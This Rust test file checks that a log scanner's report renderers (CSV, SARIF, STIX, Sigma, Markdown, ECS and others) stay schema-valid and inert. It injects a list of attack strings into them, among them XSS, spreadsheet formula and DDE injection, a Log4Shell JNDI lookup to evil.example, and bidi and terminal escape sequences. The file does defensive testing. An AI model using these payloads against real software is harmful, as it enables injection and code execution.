//! Every form of report, held against the standard that it claims to keep.
//!
//! One table: each form has its check here, and each check is tried on a report of nothing, on reports of what really
//! happens, and on one in which every text that a stranger could have written is an attack on some reader. Schemas are
//! those of the standards (`schemas/README.md`); where a standard's own program is at hand (`KEYTRACE_VALIDATORS`, the
//! folder of its commands, which CI makes), it is asked as well.

use std::collections::BTreeMap;
use std::path::Path;
use std::process::Command;
use std::sync::LazyLock;
use std::{env, fs};

use comrak::nodes::NodeValue;
use jsonschema::{Registry, Validator};
use report::document::read;
use report::{Document, Look, RENDERERS};
use saphyr::{LoadableYamlNode, Yaml};
use serde_json::{Map, Value};

use crate::program::{keytrace, parsed, root, skipped};

/// Texts that are more than text to some reader.
const ATTACKS: [&str; 22] = [
    "<script>alert(1)</script>",
    "</script><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r\n=1",
    "a\nb\r\n\nc",
    "\"\n- evil: true\n---\nevil: &a [*a]",
    "' OR [file:name = 'x'] OR '",
    "\\' \\",
    "](http://evil.example) ![x](http://evil.example/x.png) <http://evil.example>",
    "`x` ``` | --- | **b** http://evil.example www.evil.example a@evil.example @user #1",
    "\u{202e}gnp.exe\u{2066}\u{200b}\u{feff}\u{e0041}",
    "\u{1b}[31m\u{1b}]0;t\u{7}\u{0}\u{7f}\u{9b}",
    "\u{fffe}\u{ffff}\u{2028}\u{85}\u{1f600}",
    "\\xff\\xfe",
    "%s%n{{7*7}}${jndi:ldap://evil.example/a}",
    "'\"`;&|<>*?~!#$()[]{}\\",
    "://evil.example/ ****",
];

/// The rows of all samples' report.
static SAMPLES: LazyLock<Vec<Value>> = LazyLock::new(|| {
    let run = keytrace(["scan", "--output-format", "ndjson", root().join("samples").to_str().expect("a plain path")]);
    parsed(run.text())
});

fn document(rows: &[Value]) -> Document {
    let text: String = rows.iter().map(|row| format!("{row}\n")).collect();
    read(text.as_bytes()).expect("it is a report")
}

fn rendered(form: &str, document: &Document) -> String {
    let form = RENDERERS.iter().find(|render| render.name() == form).expect("the form is listed");
    let mut out = Vec::new();
    form.render(document, Look::default(), &mut out).expect("memory takes it");
    String::from_utf8(out).unwrap_or_else(|error| panic!("{} is no UTF-8: {error}", form.name()))
}

/// Keys whose values are words of ours or times: no stranger writes them.
const OURS: [&str; 17] = [
    "type",
    "severity",
    "confidence",
    "stage",
    "outcome",
    "role",
    "first",
    "last",
    "since",
    "until",
    "time",
    "first_seen",
    "last_seen",
    "incident",
    "id",
    "version",
    "formats",
];

/// The value with an attack put to every text that a stranger could have written.
fn attacked(value: Value, attack: &str) -> Value {
    match value {
        Value::String(text) => Value::from(format!("{attack}{text}{attack}")),
        Value::Array(items) => items.into_iter().map(|item| attacked(item, attack)).collect(),
        Value::Object(map) => {
            let own = |(key, value): (String, Value)| match OURS.contains(&key.as_str()) {
                true => (key, value),
                false => (key, attacked(value, attack)),
            };
            Value::Object(map.into_iter().map(own).collect::<Map<_, _>>())
        }
        other => other,
    }
}

/// The samples' rows, as if all of them had stood in the trail of a cloud.
fn in_a_cloud() -> Vec<Value> {
    let mut rows = SAMPLES.clone();
    for input in rows[0]["inputs"].as_array_mut().expect("a list") {
        input["format"] = Value::from("aws_cloudtrail");
    }
    for (number, row) in rows.iter_mut().enumerate().filter(|(_, row)| row["type"] == "finding") {
        let fields = [
            ("operation", "GetObject"),
            ("service", "s3.amazonaws.com"),
            ("bucket", "records"),
            ("object", "a b/?*.csv"),
            ("region", "eu-west-1"),
            ("principal", "arn:aws:sts::123456789012:assumed-role/web/i-0"),
            ("access_key_id", "ASIA****"),
            ("error_code", "AccessDenied"),
        ];
        // Not every call has all of them.
        for (key, value) in fields.iter().take(1 + number % 9) {
            row["request"][*key] = Value::from(*value);
        }
        row["request"]["target"] = Value::Null;
        row["telling"] = Value::Null;
    }
    rows
}

/// Documents of every kind, each with its name.
fn documents() -> Vec<(String, Document)> {
    let mut all = vec![
        ("a cloud".to_owned(), document(&in_a_cloud())),
        ("nothing".to_owned(), Document::default()),
        ("samples".to_owned(), document(&SAMPLES)),
    ];
    // A few incidents of each kind are enough for each attack; spans of targets that grew do not fit any more.
    let wanted =
        |id: &Value| SAMPLES.iter().filter(|row| row["type"] == "incident").take(6).any(|row| row["id"] == *id);
    let rows: Vec<&Value> =
        SAMPLES.iter().filter(|row| row["type"] == "scan" || wanted(&row["id"]) || wanted(&row["incident"])).collect();
    for (number, attack) in ATTACKS.iter().enumerate() {
        let mut attacked: Vec<Value> = rows.iter().map(|row| attacked((*row).clone(), attack)).collect();
        attacked[0]["passed"] = serde_json::json!([{"path": attack, "because": attack, "is_loss": true}]);
        for row in &mut attacked {
            if row["type"] == "incident" {
                row["techniques"].as_array_mut().expect("a list").push(Value::from(*attack));
            }
            if row["type"] == "finding" && number % 2 == 0 {
                row["request"]["time"] = Value::Null;
            }
        }
        all.push((format!("attack {number}"), document(&attacked)));
    }
    all
}

#[test]
fn every_form_of_every_document_is_valid_and_inert() {
    for (name, document) in documents() {
        for form in RENDERERS {
            let text = rendered(form.name(), &document);
            let told = format!("{} of {name}", form.name());
            check_plain(&told, &text);
            check(form.name(), &told, &text, &document);
            if !name.starts_with("attack") {
                assert_eq!(rendered(form.name(), &document), text, "{told} is the same again");
            }
        }
    }
}

/// No text hides, turns the direction of writing or commands a terminal.
fn check_plain(told: &str, text: &str) {
    let text = text.replace("\r\n", "\n");
    let is_bad = |letter: &char| {
        letter.is_control() && *letter != '\n'
            || matches!(letter, '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}')
            || matches!(letter, '\u{feff}' | '\u{fe00}'..='\u{fe0f}' | '\u{e0000}'..='\u{e0fff}')
    };
    let bad: Vec<char> = text.chars().filter(is_bad).collect();
    assert!(bad.is_empty(), "{told} shows {bad:?}");
}

fn check(form: &str, told: &str, text: &str, document: &Document) {
    match form {
        "text" => text.lines().for_each(|line| assert!(line.chars().count() <= 100, "{told} is wide: {line}")),
        // Its own tests look at it with a browser.
        "html" => {}
        "ndjson" => assert_eq!(&read(text.as_bytes()).expect("it is read back"), document, "{told}"),
        "markdown" => markdown(told, text),
        "csv" => table(told, text, document.findings().count()),
        "timesketch-csv" => table(told, text, events(document)),
        "timesketch-jsonl" => timesketch(told, text, events(document)),
        "sarif" => sarif(told, text, document),
        "ocsf" => ocsf(told, text, document),
        "ecs" => ecs(told, text),
        "stix" => stix(told, text),
        "sigma" => sigma(told, text),
        other => panic!("{other} has no check here"),
    }
}

/// Both ends of each incident, and every finding.
fn events(document: &Document) -> usize {
    2 * document.stories.len() + document.findings().count()
}

fn schema(name: &str) -> Value {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("schemas").join(name);
    serde_json::from_slice(&fs::read(path).expect("the schema is there")).expect("a schema is JSON")
}

fn validator(name: &str) -> Validator {
    jsonschema::validator_for(&schema(name)).expect("it is a schema")
}

fn check_valid(told: &str, validator: &Validator, value: &Value) {
    let errors: Vec<String> =
        validator.iter_errors(value).take(3).map(|error| format!("{}: {error}", error.instance_path())).collect();
    assert!(errors.is_empty(), "{told}: {}", errors.join("\n").chars().take(2_000).collect::<String>());
}

fn sarif(told: &str, text: &str, document: &Document) {
    static SARIF: LazyLock<Validator> = LazyLock::new(|| {
        let mut schema = schema("sarif-2.1.0.json");
        // A bracket too many makes this pattern none to engines that are strict; no language is ours to tell.
        for part in ["run", "toolComponent"] {
            let language = &mut schema["definitions"][part]["properties"]["language"];
            language["pattern"] = Value::from("^[a-zA-Z]{2}(-[a-zA-Z]{2})?$");
        }
        jsonschema::validator_for(&schema).expect("it is a schema")
    });
    let log: Value = serde_json::from_str(text).expect("SARIF is JSON");
    check_valid(told, &SARIF, &log);
    let run = &log["runs"][0];
    let results = run["results"].as_array().expect("an empty list at least");
    assert_eq!(results.len(), document.findings().count(), "{told}");
    for result in results {
        let rule = &run["tool"]["driver"]["rules"][result["ruleIndex"].as_u64().unwrap_or(0) as usize];
        assert_eq!(rule["id"], result["ruleId"], "{told}");
        let uri = result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].as_str().expect("a place");
        assert!(uri.bytes().all(|byte| byte.is_ascii_graphic() && !b"<>\"{}|\\^`".contains(&byte)), "{told}: {uri}");
        // What failed or is unclear has no level (3.27.9).
        assert_eq!(result["kind"] == "fail", result["level"] != "none", "{told}");
    }
    let lost = document.scan.passed.iter().any(|passed| passed.is_loss);
    assert_eq!(run["invocations"][0]["executionSuccessful"], !lost, "{told}");
}

fn ocsf(told: &str, text: &str, document: &Document) {
    static CLASSES: LazyLock<[(u64, Validator); 2]> = LazyLock::new(|| {
        [(2004, "detection_finding"), (6007, "scan_activity")]
            .map(|(class, name)| (class, validator(&format!("ocsf-1.8.0-{name}.json"))))
    });
    let events = parsed(text);
    assert_eq!(events.len(), 1 + document.stories.len(), "{told}: the scan, and every incident");
    for event in &events {
        let class = event["class_uid"].as_u64().expect("a class");
        let (_, validator) = CLASSES.iter().find(|(known, _)| *known == class).expect("a known class");
        check_valid(told, validator, event);
        let activity = event["activity_id"].as_u64().expect("an activity");
        assert_eq!(event["type_uid"].as_u64(), Some(class * 100 + activity), "{told}");
        assert_eq!(event["category_uid"].as_u64(), Some(class / 1000), "{told}");
    }
}

fn stix(told: &str, text: &str) {
    static SCHEMAS: LazyLock<BTreeMap<String, Validator>> = LazyLock::new(|| {
        let all = schema("stix-2.1.json");
        let all = all.as_object().expect("schemas by their names");
        let mut registry = Registry::new();
        for (id, schema) in all {
            registry = registry.add(id.as_str(), schema.clone()).expect("it is a schema");
        }
        let registry = registry.prepare().expect("they fit together");
        let made = |(id, schema): (&String, &Value)| {
            let validator = jsonschema::options().with_registry(&registry).build(schema).expect("it is a schema");
            let name = id.rsplit('/').next().expect("a name").trim_end_matches(".json").to_owned();
            (name, validator)
        };
        all.iter().map(made).collect()
    });
    let bundle: Value = serde_json::from_str(text).expect("STIX is JSON");
    assert_eq!(bundle["type"], "bundle");
    let objects = bundle["objects"].as_array().expect("objects");
    let ids: Vec<&str> = objects.iter().map(|object| object["id"].as_str().expect("an identifier")).collect();
    for object in objects {
        let kind = object["type"].as_str().expect("a type");
        let validator = SCHEMAS.get(kind).unwrap_or_else(|| panic!("{told}: {kind} has a schema"));
        check_valid(told, validator, object);
        for (key, value) in object.as_object().expect("an object") {
            let refs: Vec<&Value> = match value {
                Value::Array(items) if key.ends_with("_refs") => items.iter().collect(),
                value if key.ends_with("_ref") => vec![value],
                _ => Vec::new(),
            };
            refs.iter().for_each(|id| assert!(ids.contains(&id.as_str().expect("an identifier")), "{told}: {id}"));
        }
        if let Some(pattern) = object.get("pattern") {
            check_pattern(told, pattern.as_str().expect("a pattern is text"));
        }
    }
}

/// A pattern of ours is one comparison: a path, `=`, and one string that ends where the pattern does.
fn check_pattern(told: &str, pattern: &str) {
    let (path, rest) = pattern.split_once(" = '").unwrap_or_else(|| panic!("{told}: {pattern}"));
    assert!(path.starts_with('[') && path.contains(":value") || path.contains(":extensions."), "{told}: {path}");
    let mut letters = rest.chars();
    loop {
        match letters.next().unwrap_or_else(|| panic!("{told}: {pattern} does not end")) {
            '\\' => assert!(matches!(letters.next(), Some('\\' | '\'')), "{told}: {pattern}"),
            '\'' => break,
            _ => {}
        }
    }
    assert_eq!(letters.as_str(), "]", "{told}: {pattern}");
}

/// The rows of a table, read by another's eyes; none of its cells is a formula.
fn table(told: &str, text: &str, findings: usize) {
    let mut reader = csv::ReaderBuilder::new().has_headers(true).from_reader(text.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(|row| row.expect("all rows are as long")).collect();
    let lost = rows.iter().filter(|row| &row[0] == "not read").count();
    assert_eq!(rows.len(), findings + lost, "{told}");
    assert_eq!(text.matches("\r\n").count(), text.matches('\n').count(), "{told}: lines end with CRLF");
    assert_eq!(text.lines().count(), rows.len() + 1, "{told}: a row is a line");
    // As it is read where semicolons part cells, too.
    for separator in [b',', b';'] {
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(separator)
            .flexible(true)
            .has_headers(false)
            .from_reader(text.as_bytes());
        for row in reader.records() {
            for cell in &row.expect("it can be read") {
                let is_number = cell.parse::<f64>().is_ok();
                assert!(is_number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']), "{told}: {cell}");
            }
        }
    }
}

/// What `timesketch.lib.utils` demands of each line.
fn timesketch(told: &str, text: &str, events: usize) {
    let rows = parsed(text);
    assert_eq!(rows.len(), events, "{told}");
    for row in rows {
        for key in ["message", "datetime", "timestamp_desc"] {
            assert!(row[key].as_str().is_some_and(|text| !text.is_empty()), "{told}: {key} in {row}");
        }
        let time: jiff::Timestamp = row["datetime"].as_str().unwrap().parse().expect("a time with an offset");
        assert_eq!(
            row["timestamp"].as_i64(),
            Some(time.as_nanosecond().div_euclid(1_000) as i64),
            "{told}: microseconds"
        );
        assert!(row.as_object().unwrap().values().all(|value| value.to_string().len() < 32_766), "{told}: terms fit");
    }
}

/// The fields of the Elastic Common Schema (9.3) that we use, with their types: keyword, date, long, float, ip, text.
const ECS: [(&str, char); 52] = [
    ("@timestamp", 'd'),
    ("ecs.version", 'k'),
    ("message", 't'),
    ("tags", 'k'),
    ("event.kind", 'k'),
    ("event.category", 'k'),
    ("event.type", 'k'),
    ("event.module", 'k'),
    ("event.dataset", 'k'),
    ("event.id", 'k'),
    ("event.severity", 'l'),
    ("event.risk_score", 'f'),
    ("event.outcome", 'k'),
    ("event.start", 'd'),
    ("event.end", 'd'),
    ("event.duration", 'l'),
    ("rule.name", 'k'),
    ("rule.id", 'k'),
    ("rule.ruleset", 'k'),
    ("rule.version", 'k'),
    ("rule.description", 'k'),
    ("threat.framework", 'k'),
    ("threat.tactic.id", 'k'),
    ("threat.tactic.name", 'k'),
    ("threat.technique.id", 'k'),
    ("threat.technique.name", 'k'),
    ("threat.technique.reference", 'k'),
    ("related.ip", 'i'),
    ("related.hosts", 'k'),
    ("related.user", 'k'),
    ("observer.product", 'k'),
    ("observer.type", 'k'),
    ("observer.version", 'k'),
    ("source.address", 'k'),
    ("source.ip", 'i'),
    ("user.name", 'k'),
    ("url.original", 'k'),
    ("url.path", 'k'),
    ("url.query", 'k'),
    ("url.domain", 'k'),
    ("http.request.method", 'k'),
    ("http.request.referrer", 'k'),
    ("http.response.status_code", 'l'),
    ("http.response.bytes", 'l'),
    ("user_agent.original", 'k'),
    ("log.file.path", 'k'),
    ("log.offset", 'l'),
    ("error.message", 't'),
    ("cloud.region", 'k'),
    ("event.provider", 'k'),
    ("event.action", 'k'),
    ("error.code", 'k'),
];

/// The words that the schema allows where it allows but some.
const ALLOWED: [(&str, &[&str]); 4] = [
    ("event.kind", &["alert", "event", "pipeline_error"]),
    ("event.category", &["intrusion_detection", "web", "file"]),
    ("event.type", &["info", "access", "denied", "error"]),
    ("event.outcome", &["success", "failure", "unknown"]),
];

fn ecs(told: &str, text: &str) {
    for row in parsed(text) {
        for key in ["@timestamp", "ecs.version", "event.kind", "message"] {
            let value = key.split('.').fold(&row, |value, part| &value[part]);
            assert!(value.is_string(), "{told}: {key} in {row}");
        }
        let mut leaves = Vec::new();
        leaves_of("", &row, &mut leaves);
        for (key, value) in leaves.into_iter().filter(|(key, _)| !key.starts_with("keytrace.")) {
            let (_, kind) =
                ECS.iter().find(|(known, _)| *known == key).unwrap_or_else(|| panic!("{told}: {key} is no field"));
            let text = value.as_str();
            let fits = match kind {
                'd' => text.is_some_and(|text| text.parse::<jiff::Timestamp>().is_ok()),
                'l' => value.is_i64() || value.is_u64(),
                'f' => value.is_f64(),
                'i' => text.is_some_and(|text| text.parse::<std::net::IpAddr>().is_ok()),
                _ => text.is_some(),
            };
            assert!(fits, "{told}: {key} is no {kind}: {value}");
            let words = ALLOWED.iter().find(|(known, _)| *known == key);
            assert!(
                words.is_none_or(|(_, words)| words.contains(&text.unwrap_or_default())),
                "{told}: {key} is {value}"
            );
        }
    }
}

/// The values of an object, each by its dotted path; those of lists by that of the list.
fn leaves_of<'a>(path: &str, value: &'a Value, out: &mut Vec<(String, &'a Value)>) {
    match value {
        Value::Object(map) => {
            for (key, value) in map {
                leaves_of(&if path.is_empty() { key.clone() } else { format!("{path}.{key}") }, value, out);
            }
        }
        Value::Array(items) => items.iter().for_each(|item| leaves_of(path, item, out)),
        value => out.push((path.to_owned(), value)),
    }
}

/// As a page that shows Markdown reads it, with all that such pages add: no HTML, no picture, no link but ours.
fn markdown(told: &str, text: &str) {
    let arena = comrak::Arena::new();
    let mut options = comrak::Options::default();
    options.extension.autolink = true;
    options.extension.table = true;
    options.extension.strikethrough = true;
    options.extension.tasklist = true;
    options.extension.footnotes = true;
    options.extension.math_dollars = true;
    let page = comrak::parse_document(&arena, text, &options);
    let mut rows: Vec<usize> = Vec::new();
    for node in page.descendants() {
        match &node.data.borrow().value {
            NodeValue::HtmlInline(html) => panic!("{told} holds {html}"),
            NodeValue::HtmlBlock(html) => panic!("{told} holds {}", html.literal),
            NodeValue::Image(image) => panic!("{told} shows {}", image.url),
            NodeValue::Link(link) => {
                assert!(link.url.starts_with("https://attack.mitre.org/"), "{told} links {}", link.url);
            }
            NodeValue::CodeBlock(block) => panic!("{told} holds a block: {}", block.literal),
            NodeValue::TableRow(_) => rows.push(node.children().count()),
            NodeValue::Text(text) => {
                let has = ["evil.example", "<", "@user", "#1"].into_iter().find(|word| text.contains(word));
                assert!(has.is_none(), "{told} has {has:?} outside of code: {text}");
            }
            _ => {}
        }
    }
    assert!(rows.iter().all(|cells| [6, 8].contains(cells)), "{told}: a row is as wide as its table: {rows:?}");
}

/// What the specification of Sigma 2 demands of a rule, and that a text of the log is one scalar.
fn sigma(told: &str, text: &str) {
    let documents = Yaml::load_from_str(text).unwrap_or_else(|error| panic!("{told}: {error}\n{text}"));
    for rule in documents.iter().filter(|rule| rule.is_mapping()) {
        let keys: Vec<&str> = rule.as_mapping().unwrap().keys().map(|key| key.as_str().expect("a word")).collect();
        let known = [
            "title",
            "id",
            "status",
            "description",
            "author",
            "date",
            "tags",
            "logsource",
            "detection",
            "falsepositives",
            "level",
        ];
        keys.iter().for_each(|key| assert!(known.contains(key), "{told}: {key}"));
        for key in ["title", "id", "logsource", "detection", "level"] {
            assert!(keys.contains(&key), "{told}: {key} is missing");
        }
        assert!(rule["title"].as_str().is_some_and(|title| title.chars().count() <= 256), "{told}");
        let id = rule["id"].as_str().expect("an identifier");
        assert!(id.len() == 36 && id.bytes().all(|byte| byte == b'-' || byte.is_ascii_hexdigit()), "{told}: {id}");
        assert!(["medium", "high", "critical"].contains(&rule["level"].as_str().unwrap()), "{told}");
        let selections = rule["detection"].as_mapping().expect("selections");
        assert!(1 < selections.len() && rule["detection"]["condition"].as_str() == Some("1 of selection_*"), "{told}");
        let lists = selections.values().filter_map(|selection| selection.as_mapping());
        for values in lists.flat_map(|selection| selection.values()) {
            assert!(values.as_sequence().unwrap().iter().all(Yaml::is_string), "{told}");
        }
    }
}

/// A command of the folder where validators are.
fn tool(name: &str) -> Option<Command> {
    let path = Path::new(&env::var_os("KEYTRACE_VALIDATORS")?).join(name);
    path.exists().then(|| Command::new(path))
}

fn check_by(mut command: Command, told: &str) {
    let done = command.output().expect("the validator runs");
    let said = String::from_utf8_lossy(&done.stdout).into_owned() + &String::from_utf8_lossy(&done.stderr);
    assert!(done.status.success(), "{told}: {}", said.chars().take(3_000).collect::<String>());
}

/// Reads a form with a program of the standard's own makers.
fn check_with(tool_name: &str, form: &str, ending: &str, arguments: &[&str]) {
    if tool(tool_name).is_none() {
        return skipped(&format!("{tool_name} is not at hand (KEYTRACE_VALIDATORS)"));
    }
    let folder = tempfile::tempdir().expect("a folder");
    let mut command = tool(tool_name).expect("it was there a moment ago");
    command.args(arguments);
    for (number, (_, document)) in documents().into_iter().enumerate() {
        let text = rendered(form, &document);
        if text.lines().any(|line| !line.starts_with('#')) {
            let path = folder.path().join(format!("{number}{ending}"));
            fs::write(&path, text).expect("the report is written");
            command.arg(&path);
        }
    }
    check_by(command, &format!("{form}, by {tool_name}"));
}

#[test]
fn stix_is_what_its_validator_takes() {
    // 103 asks for identifiers that are random, 202 for relationships of a list.
    check_with("stix2_validator", "stix", ".json", &["--version", "2.1", "--disable", "103", "--silent"]);
}

#[test]
fn sigma_is_what_pysigma_reads_and_writes_as_a_search() {
    let program = "import sys; from sigma.collection import SigmaCollection as C\n\
                   for path in sys.argv[1:]:\n  \
                     c = C.from_yaml(open(path, encoding='utf-8').read()); assert c.rules and not c.errors, (path, c.errors)\n  \
                     [r.detection.parsed_condition[0].parsed for r in c.rules]";
    check_with("python", "sigma", ".yml", &["-c", program]);
}

#[test]
fn time_lines_are_what_timesketch_takes_in() {
    let Some(mut has) = tool("python") else { return skipped("Timesketch is not at hand (KEYTRACE_VALIDATORS)") };
    if !has.args(["-c", "import timesketch.lib.utils"]).output().is_ok_and(|done| done.status.success()) {
        return skipped("Timesketch is not at hand (KEYTRACE_VALIDATORS)");
    }
    for (form, ending) in [("timesketch-jsonl", "jsonl"), ("timesketch-csv", "csv")] {
        let program = format!(
            "import sys; from timesketch.lib.utils import read_and_validate_{ending} as r; \
             [e['message'] and e['datetime'] for path in sys.argv[1:] for e in r(open(path, encoding='utf-8'))]"
        );
        check_with("python", form, &format!(".{ending}"), &["-c", &program]);
    }
}
